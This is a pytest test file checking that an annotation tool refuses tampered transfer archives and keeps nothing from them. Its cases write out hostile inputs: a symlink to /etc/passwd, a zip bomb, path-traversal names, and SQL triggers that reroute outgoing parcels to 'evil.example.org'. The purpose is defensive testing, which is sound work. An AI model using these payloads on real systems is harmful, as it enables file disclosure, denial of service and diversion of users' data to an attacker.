"""Files that claim to be somebody's work: each is refused with its reason, and nothing of it is left in the home."""

from __future__ import annotations

import asyncio
import hashlib
import json
import sqlite3
import stat
import zipfile
from collections.abc import Callable
from contextlib import closing
from pathlib import Path
from typing import Any

import pytest

from annotator.core.errors import MoveReason, MoveRefused
from annotator.core.outbox.parcel import Parcel
from annotator.store.folders.home import Home
from annotator.store.records import schema
from annotator.store.records.result_checksums import know_seals
from annotator.store.records.sqlite import open_records
from annotator.store.transfer.disk_moves import DiskMoves
from annotator.store.transfer.layout import MANIFEST, RECORDS
from fakes.clock import START
from store.examples import a_parcel, an_assignment, opening, submission
from store.transfer.moved_homes import BUNDLE, a_home_with_work, files_of, packed, silent, unpacked

DAMAGED, NOT_OURS, NEWER = MoveReason.DAMAGED, MoveReason.NOT_OURS, MoveReason.NEWER


class MadeMove:
    """The members of a sound file, to be changed and written anew with a manifest that fits, unless it is kept."""

    def __init__(self, file: Path) -> None:
        with zipfile.ZipFile(file) as archive:
            self.members = {info.filename: archive.read(info) for info in archive.infolist()}
        self.events: dict[str, Any] = json.loads(self.members.pop(MANIFEST))
        self.manifest: bytes | None = None
        self.infos: dict[str, zipfile.ZipInfo] = {}
        self.compressed: set[str] = set()
        self.twice: list[str] = []

    def write(self, target: Path) -> None:
        self.events["members"] = {
            name: {"sha256": hashlib.sha256(data).hexdigest(), "size_bytes": len(data)}
            for name, data in self.members.items()
        }
        manifest = self.manifest if self.manifest is not None else json.dumps(self.events).encode()
        with zipfile.ZipFile(target, "w") as archive:
            for name, data in {**self.members, MANIFEST: manifest}.items():
                info = self.infos.get(name, zipfile.ZipInfo(name))
                method = zipfile.ZIP_DEFLATED if name in self.compressed else zipfile.ZIP_STORED
                archive.writestr(info, data, method)

    def change_records(self, folder: Path, *statements: str) -> None:
        """By hand, with what stands in the way taken away."""
        path = folder / "changed.sqlite3"
        path.write_bytes(self.members[RECORDS])
        with closing(sqlite3.connect(path, autocommit=True)) as connection:
            connection.execute("PRAGMA journal_mode = DELETE")
            know_seals(connection)
            for statement in statements:
                connection.execute(statement)
        self.members[RECORDS] = path.read_bytes()


def link(move: MadeMove, _folder: Path) -> None:
    info = zipfile.ZipInfo("results/link")
    info.create_system, info.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
    move.members["results/link"], move.infos["results/link"] = b"/etc/passwd", info


def bomb(move: MadeMove, _folder: Path) -> None:
    move.members["results/zeros"] = bytes(20 << 20)
    move.compressed.add("results/zeros")


def without(name: str) -> Callable[[MadeMove, Path], None]:
    def change(move: MadeMove, _folder: Path) -> None:
        del move.members[name]

    return change


def named(name: str) -> Callable[[MadeMove, Path], None]:
    def change(move: MadeMove, _folder: Path) -> None:
        move.members[name] = b"x"

    return change


def saying(**events: object) -> Callable[[MadeMove, Path], None]:
    return lambda move, _folder: move.events.update(events)


def manifest(data: bytes) -> Callable[[MadeMove, Path], None]:
    def change(move: MadeMove, _folder: Path) -> None:
        move.manifest = data

    return change


def records(data: bytes) -> Callable[[MadeMove, Path], None]:
    def change(move: MadeMove, _folder: Path) -> None:
        move.members[RECORDS] = data

    return change


def ledger(*statements: str) -> Callable[[MadeMove, Path], None]:
    return lambda move, folder: move.change_records(folder, *statements)


def outbox(change: str) -> Callable[[MadeMove, Path], None]:
    """The waiting parcel is another one; what would refuse that is taken away before."""
    return ledger("DROP TRIGGER envelopes_never_change", f"UPDATE parcels SET {change} WHERE state = 'waiting'")


def loose(table: str, change: str) -> Callable[[MadeMove, Path], None]:
    """A table without rules, and with a row that the rules refuse."""
    return ledger(
        f"ALTER TABLE {table} RENAME TO strict",
        f"CREATE TABLE {table} AS SELECT * FROM strict",
        "DROP TABLE strict",
        f"UPDATE {table} SET {change}",
    )


def twins(move: MadeMove, _folder: Path) -> None:
    move.members |= {"results/A.json": b"1", "results/a.json": b"2"}


def file_and_folder(move: MadeMove, _folder: Path) -> None:
    move.members |= {"results/a": b"1", "results/a/b": b"2"}


def another_sum(move: MadeMove, _folder: Path) -> None:
    """The manifest tells of other bytes than those that are there."""
    move.events["members"] = {
        name: {"sha256": "0" * 64, "size_bytes": len(data)} for name, data in move.members.items()
    }
    move.manifest = json.dumps(move.events).encode()


CASES: dict[str, tuple[Callable[[MadeMove, Path], None], MoveReason]] = {
    "a link": (link, DAMAGED),
    "a bomb": (bomb, DAMAGED),
    "no records": (without(RECORDS), DAMAGED),
    "a path that leads out": (named("results/../../gone"), DAMAGED),
    "an absolute path": (named("/tmp/gone"), DAMAGED),
    "a drive": (named("results/c:/gone"), DAMAGED),
    "a backslash": (named("results\\..\\gone"), DAMAGED),
    "a device": (named("results/aux"), DAMAGED),
    "a program": (named("results/run.exe"), DAMAGED),
    "a place of its own": (named("sign-ins.json"), DAMAGED),
    "a lock": (named("lock"), DAMAGED),
    "a hidden bundle": (named("bundles/.staging-1/files.json"), DAMAGED),
    "beside a bundle": (named("bundles/x@1/tasks.packed"), DAMAGED),
    "a folder": (named("results/sub/"), DAMAGED),
    "a deep path": (named("results/" + "a/" * 30 + "b"), DAMAGED),
    "twins": (twins, DAMAGED),
    "a file that is a folder": (file_and_folder, DAMAGED),
    "another sum": (another_sum, DAMAGED),
    "no format": (saying(format="annotator-bundle"), DAMAGED),
    "a later version": (saying(version=2), NEWER),
    "a version that is none": (saying(version="1"), DAMAGED),
    "another length of the ledger": (saying(entries=3), DAMAGED),
    "another end of the ledger": (saying(last_sha256="1" * 64), DAMAGED),
    "a negative moment": (saying(made_utc_ms=-1), DAMAGED),
    "a moment that is none": (saying(made_utc_ms=True), DAMAGED),
    "a far moment": (saying(made_utc_ms=10**30), DAMAGED),
    "no JSON": (manifest(b"{"), DAMAGED),
    "no text": (manifest(b"\xff\xfe\x00"), DAMAGED),
    "a list": (manifest(b"[]"), DAMAGED),
    "a deep manifest": (manifest(b"[" * 200_000), DAMAGED),
    "a wide manifest": (manifest(b"[" + b"[]," * 900_000 + b"0]"), DAMAGED),
    "nothing for records": (records(b""), DAMAGED),
    "text for records": (records(b"SQLite format 4\0" * 400), DAMAGED),
    "an entry that was changed": (
        ledger("DROP TRIGGER entries_never_change", "UPDATE entries SET utc_ms = 7 WHERE seq = 2"), DAMAGED,
    ),
    "an entry that is gone": (
        ledger("DROP TRIGGER entries_never_go", "DELETE FROM entries WHERE seq = 2"), DAMAGED,
    ),
    "a trigger of their own": (
        ledger("CREATE TRIGGER more AFTER INSERT ON settings BEGIN DELETE FROM parcels; END"), DAMAGED,
    ),
    "a view": (ledger("CREATE VIEW more AS SELECT 1"), DAMAGED),
    "a virtual table": (ledger("CREATE VIRTUAL TABLE more USING fts5 (x)"), DAMAGED),
    "a bundle that leads out": (outbox("bundle_key = '../../gone'"), DAMAGED),
    "a result that leads out": (outbox("unique_id = '../gone'"), DAMAGED),
    "a result of another task": (outbox("task_id = 'third'"), DAMAGED),
    "a result of another bundle": (outbox("bundle_key = 'other@1'"), DAMAGED),
    "a result that is none": (outbox("envelope = x'7b7d', envelope_sha256 = sha256(x'7b7d')"), DAMAGED),
    "a state that is none": (loose("parcels", "state = 'sent'"), DAMAGED),
    "a number that is none": (loose("parcels", "attempts = 'many'"), DAMAGED),
    "a moment beyond every date": (outbox("due_utc_ms = 1 << 60"), DAMAGED),
    "a task opened before all time": (ledger("UPDATE assignments SET opened_utc_ms = -1"), DAMAGED),
    "a result without its task": (ledger("DELETE FROM assignments WHERE task_id = 'first'"), DAMAGED),
    "another program's database": (ledger("PRAGMA application_id = 7"), DAMAGED),
    "records of a newer program": (ledger("PRAGMA user_version = 99"), NEWER),
}  # fmt: skip


@pytest.fixture(scope="module")
def valid_move(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("sound")
    packed(a_home_with_work(folder), folder / "move.zip")
    return folder / "move.zip"


def refused(file: Path, home: Home) -> MoveRefused:
    home.prepare()
    around = files_of(home.folder.parent)
    with home.lock(), pytest.raises(MoveRefused) as told:
        DiskMoves(home, "9.9").unpack(str(file), START, silent)
    assert {path: sha256 for path, sha256 in files_of(home.folder.parent).items() if path != "home/lock"} == around
    assert sorted(path.name for path in home.folder.iterdir()) == ["bundles", "lock", "log", "results"]
    assert not any(home.bundles.iterdir())
    return told.value


@pytest.mark.parametrize("case", CASES)
def test_what_is_not_as_it_was_made_is_refused_whole(tmp_path: Path, valid_move: Path, case: str) -> None:
    move = MadeMove(valid_move)
    change, reason = CASES[case]
    change(move, tmp_path)
    move.write(tmp_path / "move.zip")
    assert refused(tmp_path / "move.zip", Home(tmp_path / "home")).code == reason


def test_what_is_written_anew_as_it_was_is_taken(tmp_path: Path, valid_move: Path) -> None:
    """So that the cases above are refused for what was changed, and not for how they are written."""
    MadeMove(valid_move).write(tmp_path / "move.zip")
    home = Home(tmp_path / "home")
    with home.lock():
        assert DiskMoves(home, "9.9").unpack(str(tmp_path / "move.zip"), START, silent).bundles == 1


def test_every_byte_that_is_spoiled_is_seen(tmp_path: Path, valid_move: Path) -> None:
    """Wherever it lies: in a member, in a name, in the list of names. What is nowhere read may be anything."""
    data = valid_move.read_bytes()
    with (whole := Home(tmp_path / "whole")).lock():
        DiskMoves(whole, "9.9").unpack(str(valid_move), START, silent)
    expected = files_of(whole.arrived)
    places = range(len(data) // 48, len(data), len(data) // 48)
    for number, place in enumerate(places):
        spoiled = bytearray(data)
        spoiled[place] ^= 0x55
        file, home = tmp_path / "spoiled.zip", Home(tmp_path / f"home-{number}")
        file.write_bytes(spoiled)
        with home.lock():
            try:
                DiskMoves(home, "9.9").unpack(str(file), START, silent)
            except MoveRefused:
                assert not home.arrived.exists()
            else:
                assert files_of(home.arrived) == expected


@pytest.mark.parametrize("share", [0, 1, 40, 90, 99])
def test_what_is_cut_off_is_refused(tmp_path: Path, valid_move: Path, share: int) -> None:
    data = valid_move.read_bytes()
    (tmp_path / "cut.zip").write_bytes(data[: len(data) * share // 100])
    assert refused(tmp_path / "cut.zip", Home(tmp_path / "home")).code == NOT_OURS


def test_a_bundle_is_no_such_file(tmp_path: Path) -> None:
    with zipfile.ZipFile(tmp_path / "bundle.zip", "w") as archive:
        archive.writestr("bundle.toml", "")
    assert refused(tmp_path / "bundle.zip", Home(tmp_path / "home")).code == NOT_OURS


def test_one_name_twice_is_refused(tmp_path: Path, valid_move: Path) -> None:
    file = tmp_path / "twice.zip"
    file.write_bytes(valid_move.read_bytes())
    with zipfile.ZipFile(file, "a") as archive, pytest.warns(UserWarning, match="Duplicate name"):
        archive.writestr(RECORDS, b"other")
    assert refused(file, Home(tmp_path / "home")).code == DAMAGED


def test_a_list_that_says_more_than_there_is_is_refused(tmp_path: Path, valid_move: Path) -> None:
    """Members that begin at one place would be one file many times over."""
    data = bytearray(valid_move.read_bytes())
    with zipfile.ZipFile(valid_move) as archive:
        first, second = archive.infolist()[0], archive.infolist()[1]
    entry = data.index(b"PK\x01\x02", archive.start_dir + 4)
    assert data[entry + 42 : entry + 46] == second.header_offset.to_bytes(4, "little")
    data[entry + 42 : entry + 46] = first.header_offset.to_bytes(4, "little")
    (tmp_path / "overlapping.zip").write_bytes(data)
    assert refused(tmp_path / "overlapping.zip", Home(tmp_path / "home")).code == DAMAGED


REROUTED = "UPDATE parcels SET connector = 'https', url = 'https://evil.example.org' WHERE unique_id = NEW.unique_id"
TAKEN_OVER = (
    f"CREATE TRIGGER parcels_are_made_once AFTER INSERT ON parcels BEGIN {REROUTED}; END",
    f"CREATE TRIGGER entries_only_follow AFTER UPDATE ON parcels BEGIN {REROUTED}; END",
)
NO_TRIGGERS = tuple(f"DROP TRIGGER {name}" for name in schema.TRIGGERS)


def rules_of(path: Path) -> set[tuple[str, str]]:
    with closing(sqlite3.connect(path)) as connection:
        return {
            (name, sql) for name, sql in connection.execute("SELECT name, sql FROM sqlite_schema WHERE sql NOT NULL")
        }


@pytest.mark.parametrize("change", ["other triggers", "no triggers", "more columns"])
def test_the_tables_and_rules_are_ours_whatever_the_file_has(tmp_path: Path, valid_move: Path, change: str) -> None:
    move = MadeMove(valid_move)
    statements = {
        "other triggers": (*NO_TRIGGERS, *TAKEN_OVER),
        "no triggers": NO_TRIGGERS,
        "more columns": ("ALTER TABLE parcels ADD COLUMN also TEXT", "CREATE TABLE checkpoint (one TEXT)"),
    }
    move.change_records(tmp_path, *statements[change])
    move.write(tmp_path / "move.zip")
    unpacked(there := Home(tmp_path / "home"), tmp_path / "move.zip")
    asyncio.run(open_records(fresh := Home(tmp_path / "fresh")).close())
    assert rules_of(there.records) == rules_of(fresh.records)


def test_a_parcel_goes_where_it_was_written_to_whatever_triggers_came(tmp_path: Path, valid_move: Path) -> None:
    move = MadeMove(valid_move)
    move.change_records(tmp_path, *NO_TRIGGERS, *TAKEN_OVER)
    move.write(tmp_path / "move.zip")
    unpacked(there := Home(tmp_path / "home"), tmp_path / "move.zip")
    assignment = an_assignment("third", key=BUNDLE)
    written = a_parcel(assignment)

    async def submit() -> tuple[Parcel, ...]:
        records = open_records(there)
        await records.open_assignment(assignment, opening(assignment))
        await records.submit(submission(assignment), written, assignment.answer)
        kept = await records.parcels()
        await records.close()
        return kept

    kept = asyncio.run(submit())
    assert kept[0] == written
    assert {(parcel.connector, parcel.url) for parcel in kept} == {("folder", "")}
